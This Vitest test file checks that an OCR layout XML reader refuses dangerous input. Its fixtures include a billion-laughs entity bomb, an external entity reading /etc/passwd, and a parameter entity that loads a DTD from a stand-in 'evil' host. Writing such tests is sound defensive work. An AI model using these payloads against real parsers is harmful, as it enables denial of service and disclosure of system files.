import { describe, expect, it } from "vitest";
import { readAlto } from "../../src/layout/alto.js";
import { readHocr } from "../../src/layout/hocr.js";
import { readMets } from "../../src/layout/mets.js";
import { LayoutInputError, MAX_LAYOUT_CHARS } from "../../src/layout/xml.js";

const BILLION_LAUGHS = `<?xml version="1.0"?>
<!DOCTYPE alto [
  <!ENTITY lol "lol">
  <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
  <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
  <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
  <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
  <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
  <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
  <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<alto><Layout><Page WIDTH="1" HEIGHT="1"><PrintSpace><TextBlock ID="b"><TextLine><String CONTENT="&lol9;"/></TextLine></TextBlock></PrintSpace></Page></Layout></alto>`;

const EXTERNAL_ENTITY = `<?xml version="1.0"?>
<!DOCTYPE html [ <!ENTITY secret SYSTEM "file:///etc/passwd"> ]>
<html><body><div class="ocr_page" title="bbox 0 0 10 10"><span class="ocr_line" title="bbox 0 0 10 10"><span class="ocrx_word" title="bbox 0 0 10 10">&secret;</span></span></div></body></html>`;

const PARAMETER_ENTITY = `<?xml version="1.0"?>
<!DOCTYPE mets [ <!ENTITY % remote SYSTEM "http://example.invalid/evil.dtd"> %remote; ]>
<mets><structMap TYPE="LOGICAL"/></mets>`;

/** Reading a refused file must throw at once; the exact time is for `pnpm bench`, this only rules out an expansion. */
function refusal(read: () => unknown): LayoutInputError {
  try {
    read();
  } catch (error) {
    if (error instanceof LayoutInputError) return error;
    throw error;
  }
  throw new Error("the file was not refused");
}

describe("layout XML safety", () => {
  it("refuses the billion laughs with a message naming the file and the line of the DOCTYPE", () => {
    const error = refusal(() => readAlto(BILLION_LAUGHS, "laughs.alto.xml"));
    expect(error.message).toMatch(/^laughs\.alto\.xml:\d+: the DOCTYPE declares entities; refused/u);
    expect(error.sourceName).toBe("laughs.alto.xml");
    expect(error.line).toBeGreaterThanOrEqual(2);
    expect(error.line).toBeLessThanOrEqual(13);
  });

  it("refuses an external entity (hOCR) and a parameter entity (METS)", () => {
    expect(refusal(() => readHocr(EXTERNAL_ENTITY, "evil.hocr")).message).toMatch(/^evil\.hocr:\d+: the DOCTYPE declares entities/u);
    expect(refusal(() => readMets(PARAMETER_ENTITY, "evil.mets.xml")).message).toMatch(/^evil\.mets\.xml:\d+: the DOCTYPE declares entities/u);
  });

  it("never expands an undeclared entity: it is malformed XML", () => {
    const xml = `<alto><Layout><Page WIDTH="1" HEIGHT="1"><PrintSpace><TextBlock ID="b"><TextLine>\n<String CONTENT="&nbsp;"/></TextLine></TextBlock></PrintSpace></Page></Layout></alto>`;
    expect(refusal(() => readAlto(xml, "u.alto.xml")).message).toMatch(/^u\.alto\.xml:2: malformed XML: undefined entity/u);
  });

  it("refuses a file over the size limit before parsing it", () => {
    const huge = "<alto>" + " ".repeat(MAX_LAYOUT_CHARS) + "</alto>";
    const error = refusal(() => readAlto(huge, "huge.alto.xml"));
    expect(error.message).toBe(`huge.alto.xml: file too large (${huge.length} characters, the limit is ${MAX_LAYOUT_CHARS})`);
    expect(error.line).toBeNull();
  });

  it("names the file and the line of a well-formedness error", () => {
    const xml = `<?xml version="1.0"?>\n<alto>\n<Layout>\n<Page WIDTH="1" HEIGHT="1"></Layout>\n</alto>`;
    const error = refusal(() => readAlto(xml, "broken.alto.xml"));
    expect(error.message).toMatch(/^broken\.alto\.xml:4: malformed XML: /u);
    expect(error.line).toBe(4);
  });

  it("accepts a DOCTYPE that only names an external DTD (XHTML hOCR) without loading it", () => {
    const xml = `<?xml version="1.0"?>\n<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Transitional//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-transitional.dtd">\n<html><body><div class="ocr_page" title="bbox 0 0 10 10"><span class="ocr_line" title="bbox 0 0 10 10">字</span></div></body></html>`;
    expect(readHocr(xml, "ok.hocr").pages[0]!.blocks[0]!.lines[0]!.words[0]!.text).toBe("字");
  });
});
